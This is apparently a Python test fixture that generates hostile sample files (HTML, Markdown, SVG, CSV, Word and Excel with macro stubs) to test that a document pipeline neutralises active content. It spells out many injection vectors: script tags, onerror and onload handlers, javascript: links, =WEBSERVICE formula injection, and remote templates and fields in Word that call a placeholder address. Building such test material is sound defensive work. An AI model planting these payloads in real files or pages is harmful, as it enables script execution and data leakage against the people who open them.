# ruff: noqa: E501 - files written out as XML stay in one piece
"""Documents that mean harm, of every kind people bring in: each says one plain word and points to an address."""

import io
import zipfile

from plumbline.composition.tests.files import RELATIONS, archive, picture, relation

from . import samples

SAYS = "Torque"
SCRIPT = "attack(); fetch('{}/script')"


def files(address: str) -> dict[str, bytes]:
    """Return the files by name; whatever in them runs or loads calls `attack` in the page, or the address."""
    made: dict[str, str | bytes] = {
        "attack.html": _page(address),
        "attack.md": f"# {SAYS}\n\n<script>{SCRIPT.format(address)}</script> ![p]({address}/md.png) [x](javascript:attack())\n\n"
        f"<img src={address}/img.png onerror=attack()>\n\n<iframe src='{address}/frame'></iframe>\n\n[y][z]\n\n[z]: javascript:attack()\n",
        "attack.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT.format(address)}\"><script>attack()</script>"
        f"<image href='{address}/svg.png'/><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{address}/f'/></foreignObject>"
        f"<text>{SAYS}</text></svg>",
        "attack.csv": f'{SAYS};=WEBSERVICE("{address}/csv")\n<img src={address}/cell.png onerror=attack()>;1\n',
        "attack.pdf": samples.hostile(samples.pages("A4")),
        "attack.docm": word_file(address, word__vbaProject__bin=b"\xd0\xcf\x11\xe0 AutoOpen"),
        "attack.xlsm": workbook(address),
        "attack.docx": word_file(address),
    }
    return {name: content if isinstance(content, bytes) else content.encode() for name, content in made.items()}


def _page(address: str) -> str:
    return (
        f"<base href='{address}/'><meta http-equiv=refresh content='0;{address}/refresh'><link rel=stylesheet href='{address}/a.css'>"
        f"<style>@import url({address}/import.css); @font-face {{ font-family: x; src: url({address}/font) }}</style>"
        f"<p onclick=attack() style='background:url({address}/bg.png)'>{SAYS}<script>{SCRIPT.format(address)}</script>"
        f"<img src={address}/img.png srcset='{address}/set.png 2x' onerror=attack()><iframe src={address}/frame srcdoc='<script>parent.attack()</script>'></iframe>"
        f"<a href='javascript:attack()'>x</a><a href='{address}/ping' ping='{address}/ping'>y</a><form action={address}><button formaction=javascript:attack()>z</button></form>"
        f"<svg onload=attack()><script>attack()</script><image href='{address}/svg.png'/></svg><video src={address}/v.mp4 poster={address}/p.png autoplay></video>"
        f"<object data={address}/object></object><embed src={address}/embed><input type=image src={address}/input.png autofocus onfocus=attack()>"
    )


def word_file(address: str, **parts: bytes) -> bytes:
    """Return a Word file with linked pictures, a template, a piece of a page and a field that come from the address."""
    field = f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{address}/field.png&quot; \\d "><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>'
    link = '<w:p><w:hyperlink r:id="r4"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>'
    body = picture("r1") + picture("r1", "link") + '<w:altChunk r:id="r2"/>' + field + link
    outside = (
        ("r1", "image", "linked.png"), ("r2", "aFChunk", "chunk.html"), ("r3", "attachedTemplate", "template.dotm"),
        ("r5", "oleObject", "object.bin"), ("r6", "frame", "frame.docx"),
    )  # fmt: skip
    lines = "".join(relation(key, kind, f"{address}/{target}", "External") for key, kind, target in outside)
    lines += relation("r4", "hyperlink", "javascript:attack()", "External")
    template = relation("r1", "attachedTemplate", f"{address}/settings.dotm", "External")
    made = unpacked(samples.word(SAYS))
    made["word/document.xml"] = made["word/document.xml"].replace(b"<w:sectPr", body.encode() + b"<w:sectPr")
    rels = "word/_rels/document.xml.rels"
    made[rels] = made[rels].replace(b"</Relationships>", lines.encode() + b"</Relationships>")
    made["word/_rels/settings.xml.rels"] = f'<Relationships xmlns="{RELATIONS}">{template}</Relationships>'.encode()
    return archive(made | {name.replace("__", "/"): content for name, content in parts.items()})


def unpacked(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def workbook(address: str) -> bytes:
    """Return an Excel file with a macro part and cells that call the address."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append([SAYS, f'=WEBSERVICE("{address}/cell")', f'=HYPERLINK("javascript:attack()", "{SAYS}")'])
    book.active.append([f"<img src={address}/text.png onerror=attack()>", f"='[{address}/other.xlsx]Sheet1'!A1"])
    kept = io.BytesIO()
    book.save(kept)
    parts = unpacked(kept.getvalue())
    types = parts["[Content_Types].xml"].decode()
    macros = types.replace("spreadsheetml.sheet.main+xml", "x").replace(
        "application/vnd.openxmlformats-officedocument.x", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    )
    return archive(parts | {"[Content_Types].xml": macros, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Auto_Open"})
